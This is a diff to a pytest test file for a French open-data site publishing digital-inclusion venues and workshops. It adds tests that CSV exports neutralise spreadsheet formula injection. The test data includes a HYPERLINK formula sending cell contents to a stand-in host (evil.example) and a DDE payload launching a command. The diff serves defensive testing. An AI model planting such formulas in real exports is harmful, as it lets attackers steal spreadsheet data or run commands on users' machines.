@@ -12,7 +12,8 @@ from pathlib import Path
 import pytest
 
 from site_fixture import build_demo_site
-from transforms.exports import neutralise
+from pipeline.venue_contract import VENUES
+from transforms.exports import FORMULA_STARTS, NUMBER, literal_patterns, neutralise
 
 
 @pytest.fixture(scope="module")
@@ -64,10 +65,68 @@ def test_venue_export_follows_the_national_schema_and_is_formula_safe(site):
     assert list(rows[0])[-2:] == ["fiche_acces_libre", "prise_rdv"]
     exported = json.loads(read(site, "donnees/lieux.json"))
     assert exported["version"] == "1.0.2" and len(exported["lieux"]) == 17
-    assert neutralise("=HYPERLINK(\"x\")") == "'=HYPERLINK(\"x\")"
-    assert neutralise("+33169310000") == "'+33169310000" and neutralise(12.5) == 12.5
+    assert neutralise("=HYPERLINK(\"x\")") == "'=HYPERLINK(\"x\")" and neutralise(12.5) == 12.5
+    assert_follows_the_venue_contract(rows)
+    phones = {row["id"]: row["telephone"] for row in rows}
+    assert phones["lieu-hostile"] == "+33169310000"  # as the national schema writes it
     for row in rows:
-        assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values())
+        assert not any(v.startswith(FORMULA_STARTS) for name, v in row.items()
+                       if name not in literal_patterns(VENUES))
+
+
+def assert_follows_the_venue_contract(rows: list[dict]) -> None:
+    """Every filled cell of a typed column matches the contract's pattern for it."""
+    patterns = literal_patterns(VENUES)
+    assert set(patterns) >= {"telephone", "code_postal", "pivot", "date_maj", "latitude"}
+    checked = 0
+    for row in rows:
+        for name, pattern in patterns.items():
+            if row[name]:
+                assert pattern.fullmatch(row[name]), (row["id"], name, row[name])
+                checked += 1
+    assert checked >= len(rows) * 3
+
+
+MALICIOUS = {"nom": '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
+             "adresse": "+cmd|' /C calc'!A0", "complement_adresse": "-2+3",
+             "presentation_resume": "@SUM(1)", "structure_parente": "=1+1"}
+
+
+def test_formula_cells_are_neutralised_in_every_csv_download(data_dir):
+    from conftest import REFERENCE_RUN
+    from pipeline.ingest import process_file
+    from pipeline.publish import publish
+
+    venue = {"id": "lieu-formules", "pivot": "21910477700019", "commune": "Palaiseau",
+             "code_postal": "91120", "code_insee": "91477", "latitude": "48.71",
+             "longitude": "-2.24", "telephone": "+33180050000", "date_maj": "2026-01-15",
+             "services": "Aide aux démarches administratives",
+             "modalites_acces": "Se présenter", "itinerance": "Fixe", **MALICIOUS}
+    buffer = io.StringIO()
+    writer = csv.DictWriter(buffer, fieldnames=list(venue), lineterminator="\n")
+    writer.writeheader()
+    writer.writerow(venue)
+    path = data_dir / "inbox" / "agglo-lieux" / "lieux_formules.csv"
+    path.parent.mkdir(parents=True)
+    path.write_text(buffer.getvalue(), encoding="utf-8")
+    assert process_file("agglo-lieux", str(path)).status != "rejete"
+    build = Path(publish(REFERENCE_RUN).path)
+
+    (row,) = csv.DictReader(io.StringIO(read(build, "donnees/lieux.csv")))
+    assert_follows_the_venue_contract([row])
+    assert row["telephone"] == "+33180050000" and row["longitude"] == "-2.24"
+    for name, value in MALICIOUS.items():
+        assert row[name] == "'" + value, name
+    downloads = sorted(build.rglob("*.csv"))
+    assert len(downloads) > 5
+    for download in downloads:
+        literals = literal_patterns(VENUES) if download.name == "lieux.csv" else {}
+        header, *records = csv.reader(io.StringIO(download.read_text(encoding="utf-8")))
+        for record in records:
+            for name, cell in zip(header + [""] * len(record), record):
+                if cell.startswith(FORMULA_STARTS) and not re.fullmatch(NUMBER, cell):
+                    assert name in literals and literals[name].fullmatch(cell), (
+                        download.name, name, cell)
 
 
 def test_phone_page_lists_collection_points_by_commune(site):
@@ -146,3 +205,31 @@ def test_workshop_page_and_printable_poster(site):
     assert svg.startswith("<svg") and "<script" not in svg
     css = next((site / "theme" / "css").glob("site.*.css")).read_text(encoding="utf-8")
     assert "@page { size: A4" in css
+
+
+def test_workshops_whose_ids_differ_only_in_case_or_punctuation_get_their_own_pages(data_dir):
+    from conftest import REFERENCE_RUN
+    from pipeline.ingest import process_file
+    from pipeline.publish import publish
+
+    header = ("identifiant_seance;commune;lieu;adresse;date;heure_debut;duree_minutes;"
+              "thematique;public;places;inscrits;presents;statut;inscription\n")
+    sessions = [("PAL-X1", "01/12/2026", "Prise en main du smartphone"),
+                ("pal.x1", "02/12/2026", "Accès aux services en ligne")]
+    path = data_dir / "inbox" / "ville-palaiseau" / "ateliers_decembre.csv"
+    path.parent.mkdir(parents=True)
+    path.write_text(header + "".join(
+        f"{key};91477;Médiathèque;1 rue de Paris;{day};10h;60;{topic};Seniors;10;2;;Prévue;"
+        "Mairie\n" for key, day, topic in sessions), encoding="utf-8")
+    assert process_file("ville-palaiseau", str(path)).rows_loaded == 2
+    build = Path(publish(REFERENCE_RUN).path)
+
+    pages = sorted(build.glob("ateliers/*/index.html"))
+    pages = [p for p in pages if p.parent.name != "commune"]
+    assert len(pages) == 2 and all(p.parent.name.startswith("ville-palaiseau-pal-x1-")
+                                   for p in pages)
+    topics = sorted(re.search(r"<h1>(.*?)</h1>", p.read_text(encoding="utf-8")).group(1)
+                    for p in pages)
+    assert topics == ["Accès aux services en ligne", "Prise en main du smartphone"]
+    for page in pages:
+        assert (page.parent / "atelier.ics").is_file() and (page.parent / "qr.svg").is_file()
